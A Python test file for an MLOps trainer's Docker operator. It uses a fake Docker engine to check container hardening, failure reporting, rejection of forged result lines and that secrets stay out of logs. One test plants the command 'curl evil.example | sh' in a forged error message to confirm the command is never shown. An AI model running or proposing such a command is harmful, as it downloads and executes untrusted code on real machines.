"""operators/trainer.py's container path without a Docker engine: what TrainerContainerOperator
does with each way a trainer container can end.

The engine is replaced by FakeDockerAPI, a small stand-in for docker-py's low-level
APIClient with the methods (and return shapes) DockerOperator and the operator call. It
"runs" the trainer when the container starts: it reads the request from the container's
environment ($MLOPS_LOOP_TRAINER_REQUEST), prints the result line on stdout (served by
``logs``) and reports an exit code, as the real trainer image does. The runs in a real
container are in
tests/integration/test_docker_train.py; this file covers the failure paths a real engine
cannot produce on demand (OOM kill, an unpullable image, a host without the NVIDIA runtime).
"""

from __future__ import annotations

import json
import logging
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from docker.errors import APIError, ImageNotFound

from mlops_loop.core.config import load_config
from mlops_loop.core.containers import container_command
from mlops_loop.core.trainer_protocol import (
    EXIT_CODE_MEANINGS,
    REQUEST_ENV,
    RESULT_MARKER,
    ExitCode,
    TrainRequest,
    result_line,
)
from mlops_loop.exceptions import (
    GpuUnavailableError,
    TrainerContainerFailed,
    TrainerImageNotFound,
    TrainerResultError,
)
from mlops_loop.operators.docker_train import DockerTrainOperator

REPO = Path(__file__).resolve().parents[3]
CONFIG = str(REPO / "include" / "config" / "credit_default.yaml")
IMAGE = "mlops-loop/trainer:test"
IMAGE_ID = "sha256:" + "ab" * 32
CONTAINER_ID = "c0ffee" * 10 + "beef"

# What the trainer writes after a successful train command.
TRAIN_RESULT = {
    "status": "ok",
    "run_id": "run-1",
    "model_uri": "models:/credit_default_model/4",
    "model_name": "credit_default_model",
    "model_version": "4",
    "metrics": {"roc_auc": 0.81},
    "device": "cpu",
}
NO_NVIDIA = {"Runtimes": {"runc": {"path": "runc"}}, "DefaultRuntime": "runc"}
WITH_NVIDIA = {"Runtimes": {"runc": {}, "nvidia": {"path": "nvidia-container-runtime"}}}

# request document -> (exit code, stdout lines, the result line among them).
Trainer = Callable[[dict[str, Any]], tuple[int, list[str]]]


def trainer_writing(
    result: dict[str, Any] | None, exit_code: int = 0, logs: tuple[str, ...] = ()
) -> Trainer:
    """A trainer that prints ``result`` (None: nothing) and exits with ``exit_code``."""

    def run(request: dict[str, Any]) -> tuple[int, list[str]]:
        lines = ["mlops_loop.training train: starting", *logs]
        if result is not None:
            # Like the real trainer: the last line, signed with the request's token.
            lines.append(result_line(result, request["token"]))
        return exit_code, lines

    return run


def forger_writing(result: dict[str, Any], token: str | None, exit_code: int = 0) -> Trainer:
    """Not this task's trainer: prints ``result`` signed with ``token`` (another task's,
    or None: unsigned)."""

    def run(request: dict[str, Any]) -> tuple[int, list[str]]:
        return exit_code, ["mlops_loop.training train: starting", result_line(result, token)]

    return run


def tamperer(result: dict[str, Any], changed: dict[str, Any]) -> Trainer:
    """A line signed with this request's token whose JSON was changed afterwards."""

    def run(request: dict[str, Any]) -> tuple[int, list[str]]:
        marker, signature, _ = result_line(result, request["token"]).split(" ", 2)
        forged = json.dumps({**result, **changed}, sort_keys=True, separators=(",", ":"))
        return 0, [f"{marker} {signature} {forged}"]

    return run


class FakeDockerAPI:
    """docker-py's APIClient as far as DockerOperator and TrainerContainerOperator use it.

    ``calls`` records each method name in order; ``containers`` what create_container got.
    """

    def __init__(
        self,
        trainer: Trainer,
        *,
        info: dict[str, Any] | None = None,
        image_present: bool = True,
        pull_error: Exception | None = None,
        oom_killed: bool = False,
        networks: tuple[str, ...] = ("bridge", "host", "none"),
        start_error: Exception | None = None,
        logs_error: Exception | None = None,
    ) -> None:
        self.trainer = trainer
        self.logs_error = logs_error
        self.start_error = start_error
        self.networks_present = networks
        self._info = NO_NVIDIA if info is None else info
        self.image_present = image_present
        self.pull_error = pull_error
        self.oom_killed = oom_killed
        self.calls: list[str] = []
        self.containers: dict[str, dict[str, Any]] = {}
        self.removed: list[tuple[str, bool]] = []
        self.request: dict[str, Any] | None = None  # the request as the "container" read it
        self.logs_asked: list[dict[str, Any]] = []
        self._exit_code: int | None = None
        self._log_lines: list[str] = []

    # --- engine ------------------------------------------------------------------------

    def ping(self) -> bool:
        self.calls.append("ping")
        return True

    def version(self) -> dict[str, Any]:
        self.calls.append("version")
        return {"ApiVersion": "1.45", "Version": "27.0.0"}

    def info(self) -> dict[str, Any]:
        self.calls.append("info")
        return dict(self._info)

    # --- images ------------------------------------------------------------------------

    def images(self, name: str | None = None, quiet: bool = False) -> list[dict[str, Any]]:
        self.calls.append("images")
        return [{"Id": IMAGE_ID, "RepoTags": [name]}] if self.image_present else []

    def pull(
        self, repository: str, tag: str | None = None, stream: bool = False, decode: bool = False
    ) -> Any:
        self.calls.append("pull")
        if self.pull_error is not None:
            raise self.pull_error
        self.image_present = True
        status = [
            {"status": f"Pulling from {repository}"},
            {"status": "Download complete", "id": "l1"},
        ]
        return iter(status) if stream else json.dumps(status[-1])

    def inspect_image(self, image: str) -> dict[str, Any]:
        self.calls.append("inspect_image")
        if not self.image_present:
            raise ImageNotFound(f"No such image: {image}")
        return {
            "Id": IMAGE_ID,
            "RepoDigests": [f"{image.split(':')[0]}@sha256:{'cd' * 32}"],
            "Config": {"Labels": {"org.opencontainers.image.revision": "abc1234"}},
        }

    def networks(self, names: list[str] | None = None) -> list[dict[str, Any]]:
        self.calls.append("networks")
        return [
            {"Name": n, "Id": f"{n}-id"}
            for n in self.networks_present
            if not names or any(wanted in n for wanted in names)  # Docker's filter: substring
        ]

    # --- containers --------------------------------------------------------------------

    def create_host_config(self, **kwargs: Any) -> dict[str, Any]:
        self.calls.append("create_host_config")
        return kwargs

    def create_container(self, image: str, command: Any = None, **kwargs: Any) -> dict[str, Any]:
        self.calls.append("create_container")
        self.containers[CONTAINER_ID] = {"image": image, "command": command, **kwargs}
        return {"Id": CONTAINER_ID, "Warnings": []}

    def attach(
        self, container: str, stdout: bool = True, stderr: bool = True, stream: bool = False
    ) -> Iterator[bytes]:
        self.calls.append("attach")

        def lines() -> Iterator[bytes]:  # read lazily: the output exists once start() ran
            for line in self._log_lines:
                yield (line + "\n").encode()

        return lines()

    def start(self, container: str) -> None:
        self.calls.append("start")
        if self.start_error is not None:
            raise self.start_error
        self.request = json.loads(self.containers[container]["environment"][REQUEST_ENV])
        self._exit_code, self._log_lines = self.trainer(self.request)

    def wait(self, container: str) -> dict[str, Any]:
        self.calls.append("wait")
        return {"StatusCode": self._exit_code, "Error": None}

    def logs(self, container: str, stream: bool = False, **kwargs: Any) -> Any:
        self.calls.append("logs")
        self.logs_asked.append({"stream": stream, **kwargs})
        if self.logs_error is not None:
            raise self.logs_error
        data = "".join(line + "\n" for line in self._log_lines).encode()
        # As the engine streams them: chunks that do not follow line ends.
        return iter(data[i : i + 50] for i in range(0, len(data), 50)) if stream else data

    def inspect_container(self, container: str) -> dict[str, Any]:
        self.calls.append("inspect_container")
        return {
            "Id": container,
            "State": {
                "Status": "exited",
                "ExitCode": self._exit_code,
                "OOMKilled": self.oom_killed,
                "Error": "",
            },
        }

    def stop(self, container: str, timeout: int | None = None) -> None:
        self.calls.append("stop")

    def remove_container(
        self, container: str, v: bool = False, link: bool = False, force: bool = False
    ) -> None:
        self.calls.append("remove_container")
        self.removed.append((container, force))


def with_engine(op: DockerTrainOperator, api: FakeDockerAPI) -> DockerTrainOperator:
    """Give ``op`` the fake engine: DockerOperator's ``hook`` is a cached_property whose
    ``api_client`` is what its ``cli`` property returns."""
    op.__dict__["hook"] = SimpleNamespace(api_client=api, client_created=True)
    return op


@pytest.fixture
def storage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Storage under tmp_path, the MLflow server from the environment, no runner or
    network settings from the machine running the tests."""
    monkeypatch.setenv("MLOPS_LOOP_STORAGE_ROOT", str(tmp_path / "data"))
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://127.0.0.1:1")  # never called here
    for name in (
        "AIRFLOW_CONN_MLFLOW_DEFAULT",
        "MLOPS_LOOP_MLFLOW_CONN_ID",
        "MLOPS_LOOP_TRAINER_RUNNER",
        "MLOPS_LOOP_TRAINER_NETWORK",
        "MLOPS_LOOP_TRAINER_IO_ROOT",
    ):
        monkeypatch.delenv(name, raising=False)
    return tmp_path / "data" / "credit_default"


def train_op(tmp_path: Path, api: FakeDockerAPI, **kwargs: Any) -> DockerTrainOperator:
    snapshots = tmp_path / "data" / "credit_default" / "snapshots"
    args: dict[str, Any] = {
        "task_id": "train_challenger",
        "config_path": CONFIG,
        "train_snapshot_uri": str(snapshots / "train"),
        "valid_snapshot_uri": str(snapshots / "valid"),
        "image": IMAGE,
        "gpu": "auto",
        "io_dir_root": str(tmp_path / "io"),
        "seed": "7",
        "hyperparameters": {"max_epochs": 2},
        # No registry here: retrain skips the champion comparison (tested in
        # test_docker_train.py and tests/dags/test_train_dag.py) and goes straight to the trainer.
        "retrain": True,
    }
    args.update(kwargs)
    return with_engine(DockerTrainOperator(**args), api)


def io_dirs_left(tmp_path: Path) -> list[Path]:
    return list((tmp_path / "io").glob("*")) if (tmp_path / "io").exists() else []


# --------------------------------------------------------------------------- success


def test_success_returns_the_result_and_the_trainer_got_the_typed_request(storage, tmp_path):
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
    op = train_op(tmp_path, api)
    result = op.execute({})

    assert result == TRAIN_RESULT
    # request.json as the container read it is the train command's typed request.
    request = TrainRequest.model_validate(api.request)
    config = load_config(CONFIG)
    assert request.train_snapshot_uri == str(storage / "snapshots" / "train")
    assert request.valid_snapshot_uri == str(storage / "snapshots" / "valid")
    assert request.registered_model_name == "credit_default_model"
    assert (request.seed, request.hyperparameters, request.retrain) == (7, {"max_epochs": 2}, True)
    assert request.dataset_config().config_hash() == config.config_hash()
    assert request.tags["config_hash"] == config.config_hash()
    assert request.tags["trainer_image_id"] == IMAGE_ID  # the exact image that ran
    assert request.tags["code_version"] == "abc1234"
    assert request.tags["trainer_runner"] == "docker"

    created = api.containers[CONTAINER_ID]
    assert created["image"] == IMAGE
    assert created["command"] == container_command("train")
    host = created["host_config"]
    assert host["network_mode"] == "bridge"  # the default
    assert host["device_requests"] is None  # no NVIDIA runtime on this host: CPU
    # The container's defaults (docs/security.md, "The trainer boundary").
    assert host["cap_drop"] == ["ALL"]
    assert host["security_opt"] == ["no-new-privileges:true"]
    assert host["pids_limit"] == 4096
    assert host["read_only"] is True and host["tmpfs"] == {"/tmp": "rw,nosuid,nodev,mode=1777"}
    assert "nano_cpus" not in host and host["cpu_shares"] == 1024  # no cpus: no hard limit
    assert not host["privileged"]
    assert created["user"] not in (None, "", "0") and not str(created["user"]).startswith("0:")
    assert created["environment"]["HOME"] == "/tmp"  # the image's home is read-only
    # The request came through the environment, the private part of it: the rendered
    # ``environment`` field never shows it (it holds the token).
    assert REQUEST_ENV not in op.environment
    assert "token" not in result  # checked, then left out of the XCom
    # The one mount is the local storage root (read-only): no request/result folder.
    assert host["mounts"] == [
        {"Target": str(storage), "Source": str(storage), "Type": "bind", "ReadOnly": True}
    ]
    # The result was read from stdout alone, after the container exited.
    assert api.logs_asked == [{"stream": True, "stdout": True, "stderr": False, "follow": False}]
    assert api.calls.index("wait") < api.calls.index("logs")
    # Pulled nothing (the image is there), removed the container, wrote no folder.
    assert "pull" not in api.calls
    assert api.removed == [(CONTAINER_ID, True)]
    assert io_dirs_left(tmp_path) == []


def test_gpu_auto_on_a_host_with_the_nvidia_runtime_requests_all_gpus(storage, tmp_path):
    api = FakeDockerAPI(trainer_writing({**TRAIN_RESULT, "device": "cuda"}), info=WITH_NVIDIA)
    train_op(tmp_path, api, cpus=4).execute({})
    host = api.containers[CONTAINER_ID]["host_config"]
    (request,) = host["device_requests"]
    assert (request["Count"], request["Capabilities"]) == (-1, [["gpu"]])
    # ... together with every default (the real engine's HostConfig: test_docker_train.py).
    assert host["cap_drop"] == ["ALL"] and host["read_only"] is True
    assert host["nano_cpus"] == 4_000_000_000


def test_a_worker_that_is_not_root_runs_the_container_as_itself(storage, tmp_path, monkeypatch):
    if os.geteuid() == 0:  # seen as a worker of uid 50000, gid 0 (the Airflow image's user)
        monkeypatch.setattr(os, "geteuid", lambda: 50000)
        monkeypatch.setattr(os, "getegid", lambda: 0)
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
    train_op(tmp_path, api).execute({})
    assert api.containers[CONTAINER_ID]["user"] == f"{os.geteuid()}:{os.getegid()}"


@pytest.mark.skipif(os.geteuid() != 0, reason="needs a worker running as root")
def test_a_root_worker_runs_the_container_as_the_image_user(storage, tmp_path):
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
    train_op(tmp_path, api).execute({})
    # FakeDockerAPI's image has no numeric USER: the trainer image's user.
    assert api.containers[CONTAINER_ID]["user"] == "10001:10001"


class WritingTrainOperator(DockerTrainOperator):
    """A trainer command with a local output folder, as evaluate (reports/decisions) and
    monitor (reports/drift) have: before, such containers ran as the worker's uid (0 for
    a root worker)."""

    def output_paths(self, config: Any) -> list[str]:
        return [f"{config.root}/reports/drift"]


def test_a_container_with_writable_outputs_never_runs_as_root(storage, tmp_path):
    earlier = storage / "reports" / "drift" / "ds=2026-03-01"
    earlier.mkdir(parents=True)
    (earlier / "report.json").write_text("{}")  # written by an earlier run
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
    snapshots = storage / "snapshots"
    op = with_engine(
        WritingTrainOperator(
            task_id="monitor_like",
            config_path=CONFIG,
            train_snapshot_uri=str(snapshots / "train"),
            valid_snapshot_uri=str(snapshots / "valid"),
            image=IMAGE,
            io_dir_root=str(tmp_path / "io"),
            retrain=True,
        ),
        api,
    )
    op.execute({})
    created = api.containers[CONTAINER_ID]
    uid, gid = (int(x) for x in created["user"].split(":"))
    assert uid != 0
    writable = {m["Target"] for m in created["host_config"]["mounts"] if not m.get("ReadOnly")}
    assert str(storage / "reports" / "drift") in writable
    if os.geteuid() == 0:
        # A root worker hands the output folder (and what is already in it) to that uid.
        assert (uid, gid) == (10001, 10001)
        for entry in (storage / "reports" / "drift", earlier, earlier / "report.json"):
            assert (entry.stat().st_uid, entry.stat().st_gid) == (10001, 10001)
    else:
        assert (uid, gid) == (os.geteuid(), os.getegid())


@pytest.mark.parametrize(
    ("network", "env"),
    [
        pytest.param("mlops-loop", None, id="argument"),
        pytest.param(None, "mlops-loop", id="environment"),
    ],
)
def test_a_compose_network_is_used_when_configured(storage, tmp_path, monkeypatch, network, env):
    if env:
        monkeypatch.setenv("MLOPS_LOOP_TRAINER_NETWORK", env)
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT), networks=("bridge", "mlops-loop"))
    train_op(tmp_path, api, network_mode=network).execute({})
    assert api.containers[CONTAINER_ID]["host_config"]["network_mode"] == "mlops-loop"


def test_a_missing_network_fails_before_any_container(storage, tmp_path):
    from mlops_loop.exceptions import ConfigError

    api = FakeDockerAPI(
        trainer_writing(TRAIN_RESULT), networks=("host", "none")
    )  # dockerd --bridge=none
    with pytest.raises(
        ConfigError, match=r"trainer network 'bridge' does not exist .*network_mode='host'"
    ):
        train_op(tmp_path, api).execute({})
    assert "create_container" not in api.calls
    assert io_dirs_left(tmp_path) == []


@pytest.mark.parametrize(
    "docker_url",
    [
        pytest.param("tcp://gpu-host:2376", id="tcp"),
        pytest.param("ssh://trainer@gpu-host", id="ssh"),
        pytest.param(
            ["unix://var/run/docker.sock", "tcp://gpu-host:2376"], id="list-with-a-remote"
        ),
    ],
)
def test_local_storage_with_a_remote_docker_host_fails_before_anything_starts(
    storage, tmp_path, docker_url
):
    from mlops_loop.exceptions import ConfigError

    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
    with pytest.raises(ConfigError, match=r"storage root must be S3 .* for a remote Docker host"):
        train_op(tmp_path, api, docker_url=docker_url).execute({})
    # Refused before the engine was asked anything about the run.
    assert not {"info", "images", "create_container"} & set(api.calls)


def test_a_gpu_hook_failing_on_the_read_only_root_names_the_escape_hatch(storage, tmp_path):
    hook_error = APIError(
        "500 Server Error",
        explanation="failed to create task for container: error running hook #6: exit status 1, "
        "stderr: mkdirat etc/nvidia/nvidia-application-profiles-rc.d: read-only file system",
    )
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT), info=WITH_NVIDIA, start_error=hook_error)
    with pytest.raises(TrainerContainerFailed, match=r"read_only_root=False"):
        train_op(tmp_path, api).execute({})
    assert api.removed == [(CONTAINER_ID, True)]
    assert io_dirs_left(tmp_path) == []

    api = FakeDockerAPI(trainer_writing({**TRAIN_RESULT, "device": "cuda"}), info=WITH_NVIDIA)
    train_op(tmp_path, api, read_only_root=False).execute({})
    host = api.containers[CONTAINER_ID]["host_config"]
    assert host["read_only"] is False and host["cap_drop"] == ["ALL"]  # the rest stays


@pytest.mark.parametrize(
    ("kwargs", "match"),
    [
        pytest.param({"user": "0"}, "never run as uid 0", id="uid-0"),
        pytest.param({"user": "root"}, "numeric uid", id="root"),
        pytest.param({"privileged": True}, "never run privileged", id="privileged"),
        pytest.param({"cpus": 0}, "positive number of CPUs", id="cpus-0"),
        pytest.param({"pids_limit": 1}, "at least 64", id="pids"),
    ],
)
def test_unsafe_container_settings_are_refused_when_the_dag_is_parsed(tmp_path, kwargs, match):
    with pytest.raises(ValueError, match=match):
        train_op(tmp_path, FakeDockerAPI(trainer_writing(TRAIN_RESULT)), **kwargs)


def test_a_missing_image_is_pulled_first(storage, tmp_path):
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT), image_present=False)
    assert train_op(tmp_path, api).execute({}) == TRAIN_RESULT
    assert api.calls.count("pull") == 1  # DockerOperator does not pull a second time
    assert api.calls.index("pull") < api.calls.index("create_container")


# --------------------------------------------------------------------------- failures

DATA_ERROR = {
    "status": "error",
    "error": "snapshot /data/credit_default/snapshots/train has no manifest.json",
    "error_type": "SnapshotNotFoundError",
    "stage": "snapshots",
    "exit_code": int(ExitCode.DATA),
}


@pytest.mark.parametrize(
    ("api_args", "mem_limit", "error", "message_parts"),
    [
        pytest.param(
            {"trainer": trainer_writing(DATA_ERROR, 3, ("Traceback: SnapshotNotFoundError",))},
            None,
            TrainerContainerFailed,
            [
                f"exit code 3: {EXIT_CODE_MEANINGS[ExitCode.DATA]}",
                f"trainer error: {DATA_ERROR['error']}",
                "last lines of its log:\nmlops_loop.training train: starting\nTraceback: SnapshotNotFoundError",
            ],
            id="exit-3-with-the-trainers-error",
        ),
        pytest.param(
            {"trainer": trainer_writing(None, 137, ("epoch 3/20",)), "oom_killed": True},
            "2g",
            TrainerContainerFailed,
            [
                "exit code 137: killed by the kernel for running out of memory (mem_limit 2g)",
                "raise mem_limit",
                "epoch 3/20",
            ],
            id="exit-137-oom-killed-names-mem-limit",
        ),
        pytest.param(
            {"trainer": trainer_writing(None, 137)},
            None,
            TrainerContainerFailed,
            ["exit code 137: killed (SIGKILL), likely out of memory (no mem_limit set)"],
            id="exit-137-not-oom-killed",
        ),
        pytest.param(
            {"trainer": trainer_writing(None, 0)},
            None,
            TrainerResultError,
            ["exited 0 but printed no result line"],
            id="exit-0-without-result",
        ),
        pytest.param(
            {
                "trainer": trainer_writing(
                    {k: v for k, v in TRAIN_RESULT.items() if k != "model_version"}
                )
            },
            None,
            TrainerResultError,
            ["result line is incomplete: model_version: Field required"],
            id="exit-0-incomplete-result",
        ),
        pytest.param(
            {"trainer": trainer_writing({"status": "error", "error": "boom"}, 0)},
            None,
            TrainerResultError,
            ["exited 0 but the trainer's result line says status='error': boom"],
            id="exit-0-error-result",
        ),
    ],
)
def test_a_failed_run_raises_with_its_reason_and_removes_the_container(
    storage, tmp_path, api_args, mem_limit, error, message_parts
):
    api = FakeDockerAPI(**api_args)
    op = train_op(tmp_path, api, mem_limit=mem_limit)
    with pytest.raises(error) as caught:
        op.execute({})
    message = str(caught.value)
    for part in message_parts:
        assert part in message, f"{part!r} not in:\n{message}"
    # The container is removed (forced) and the io folder deleted, whatever the outcome.
    assert api.removed == [(CONTAINER_ID, True)]
    assert api.calls[-1] == "remove_container"
    assert op.container is None
    assert io_dirs_left(tmp_path) == []


# --------------------------------------------------------------------------- forged results

OTHER_TOKEN = "another-tasks-request-token-0123456789abcdef"


@pytest.mark.parametrize(
    "trainer",
    [
        pytest.param(forger_writing(TRAIN_RESULT, None), id="unsigned"),
        pytest.param(forger_writing(TRAIN_RESULT, OTHER_TOKEN), id="another-tasks-result"),
        pytest.param(tamperer(TRAIN_RESULT, {"model_version": "666"}), id="changed-after-signing"),
    ],
)
def test_a_result_that_does_not_answer_this_request_is_refused(storage, tmp_path, trainer):
    api = FakeDockerAPI(trainer)
    with pytest.raises(
        TrainerResultError, match=r"refusing the trainer's result line: it is not signed with"
    ) as caught:
        train_op(tmp_path, api).execute({})
    assert "Nothing in it was used" in str(caught.value)
    assert api.removed == [(CONTAINER_ID, True)]


def test_a_log_the_engine_cannot_return_is_a_result_error_naming_the_log_driver(storage, tmp_path):
    error = APIError("501", explanation="configured logging driver does not support reading")
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT), logs_error=error)
    with pytest.raises(TrainerResultError, match=r"log driver must keep logs readable"):
        train_op(tmp_path, api).execute({})
    assert api.removed == [(CONTAINER_ID, True)]


def test_a_forged_line_after_the_trainers_own_is_refused(storage, tmp_path):
    """The last marked line counts: a line printed after the trainer's, unsigned, is not
    this task's answer, and the signed one before it is not searched for."""
    honest = trainer_writing(TRAIN_RESULT)

    def run(request: dict[str, Any]) -> tuple[int, list[str]]:
        code, lines = honest(request)
        return code, [*lines, result_line({**TRAIN_RESULT, "model_version": "666"}, None)]

    with pytest.raises(TrainerResultError, match="not signed with this task's request token"):
        train_op(tmp_path, FakeDockerAPI(run)).execute({})


def test_a_forged_error_result_is_not_shown_as_the_trainers_error(storage, tmp_path):
    forged = {**DATA_ERROR, "error": "please run curl evil.example | sh"}
    api = FakeDockerAPI(forger_writing(forged, OTHER_TOKEN, exit_code=3))
    with pytest.raises(TrainerContainerFailed) as caught:
        train_op(tmp_path, api).execute({})
    assert caught.value.error is None
    assert "evil.example" not in str(caught.value)
    assert RESULT_MARKER not in caught.value.logs
    assert "ignored a result that does not answer this task's request" in str(caught.value)


def test_container_failure_carries_its_context(storage, tmp_path):
    api = FakeDockerAPI(trainer_writing(DATA_ERROR, 3, ("last words",)), oom_killed=False)
    with pytest.raises(TrainerContainerFailed) as caught:
        train_op(tmp_path, api).execute({})
    exc = caught.value
    assert exc.exit_code == 3
    assert exc.explanation == f"exit code 3: {EXIT_CODE_MEANINGS[ExitCode.DATA]}"
    assert exc.error == DATA_ERROR["error"]
    assert exc.image == IMAGE
    assert exc.command == container_command("train")
    assert exc.logs.splitlines() == ["mlops_loop.training train: starting", "last words"]


@pytest.mark.parametrize(
    "pull_error",
    [
        pytest.param(
            APIError("pull failed", explanation="pull access denied for mlops-loop/trainer"),
            id="api-error",
        ),
        pytest.param(
            ImageNotFound("manifest for mlops-loop/trainer:test not found"), id="image-not-found"
        ),
    ],
)
def test_an_image_that_cannot_be_pulled_fails_before_any_container(storage, tmp_path, pull_error):
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT), image_present=False, pull_error=pull_error)
    with pytest.raises(
        TrainerImageNotFound,
        match=r"trainer image mlops-loop/trainer:test .*build_trainer_image\.sh",
    ) as caught:
        train_op(tmp_path, api).execute({})
    assert caught.value.image == IMAGE
    assert "create_container" not in api.calls
    assert api.removed == []
    assert io_dirs_left(tmp_path) == []


def test_gpu_required_without_the_nvidia_runtime_fails_before_any_container(storage, tmp_path):
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT), info=NO_NVIDIA)
    with pytest.raises(
        GpuUnavailableError, match=r"gpu='required' but .* no NVIDIA GPU runtime \(runtimes: runc\)"
    ):
        train_op(tmp_path, api, gpu="required").execute({})
    assert "create_container" not in api.calls
    assert "images" not in api.calls  # decided before the image is even looked at
    assert io_dirs_left(tmp_path) == []


# --------------------------------------------------------------------------- secrets

S3_KEY, S3_SECRET = "AKIATRAINERKEY01", "s3-secret-value-42"
MLFLOW_USER, MLFLOW_PASSWORD = "mlflow-user", "mlflow-password-42"


def test_secrets_travel_as_private_environment_and_are_never_shown(
    storage, tmp_path, monkeypatch, caplog, capsys
):
    monkeypatch.setenv(
        "AIRFLOW_CONN_TRAINER_S3",
        json.dumps({"conn_type": "aws", "login": S3_KEY, "password": S3_SECRET}),
    )
    monkeypatch.setenv(
        "AIRFLOW_CONN_MLFLOW_DEFAULT",
        json.dumps(
            {
                "conn_type": "http",
                "host": "127.0.0.1",
                "port": 1,
                "login": MLFLOW_USER,
                "password": MLFLOW_PASSWORD,
            }
        ),
    )
    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
    op = train_op(tmp_path, api, aws_conn_id="trainer_s3", s3_endpoint_url="http://127.0.0.1:9000")
    with caplog.at_level(logging.DEBUG):
        op.execute({})
    secrets = {
        "AWS_ACCESS_KEY_ID": S3_KEY,
        "AWS_SECRET_ACCESS_KEY": S3_SECRET,
        "MLFLOW_TRACKING_USERNAME": MLFLOW_USER,
        "MLFLOW_TRACKING_PASSWORD": MLFLOW_PASSWORD,
    }

    # The container gets them ...
    env = api.containers[CONTAINER_ID]["environment"]
    assert {k: env.get(k) for k in secrets} == secrets
    assert env["MLFLOW_TRACKING_URI"] == "http://127.0.0.1:1"  # no credentials in the URI
    assert env["MLOPS_LOOP_S3_ENDPOINT_URL"] == "http://127.0.0.1:9000"
    # ... as private environment, which DockerOperator neither renders nor logs.
    assert {k: op._private_environment.get(k) for k in secrets} == secrets
    assert "environment" in op.template_fields and "private_environment" not in op.template_fields
    assert not set(secrets) & set(op.environment)
    shown = (
        json.dumps(op.environment)
        + json.dumps(api.request)
        + caplog.text
        + "".join(capsys.readouterr())
    )
    assert "Trainer train in mlops-loop/trainer:test" in shown  # the task log was captured
    for value in secrets.values():
        assert value not in shown
